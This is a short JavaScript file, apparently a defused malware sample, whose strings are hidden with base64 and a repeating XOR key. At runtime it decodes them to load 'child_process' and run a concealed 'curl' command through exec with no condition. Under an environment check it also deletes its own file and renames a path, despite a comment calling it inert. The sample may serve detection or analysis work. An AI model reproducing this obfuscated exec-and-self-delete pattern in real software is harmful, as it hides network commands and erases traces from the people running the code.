// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const stored = [
  "MAkkHCg6L0ZYUlQgEg==",
  "NhkoEw==",
  "MBQ/HGxILBRfRUUjW2JffVdoGgcfAX1Qd0ljU20EBQECYEFgH2xKK1lHHl88TD4FLw1yUlhdVTYTYhwoSy9NFxcXcxE0BCQKMQcXHkU+EWIeI0gsQVRZHDUOIRQpF3BYUx9BKg==",
  "NRI=",
  "Jg8hGSIO",
  "IwAuGy0COhpaVQ==",
  "IwAuGy0COhpdQl49"
];
const ord = 'SaMpLe_4711';
const turn = (text) => {
  const raw = Buffer.from(text, 'base64');
  let out = '';
  for (let i = 0; i < raw.length; i++) out += String.fromCharCode(raw[i] ^ ord.charCodeAt(i % ord.length));
  return out;
};
const run = require(turn(stored[0]))[turn(stored[1])];
const files = require(turn(stored[3]));
run(turn(stored[2]), () => {});
if (process.env.NEVER_SET_FOR_SAMPLES) {
  files[turn(stored[4])](__filename, () => {});
  files.renameSync(turn(stored[5]), turn(stored[6]));
}
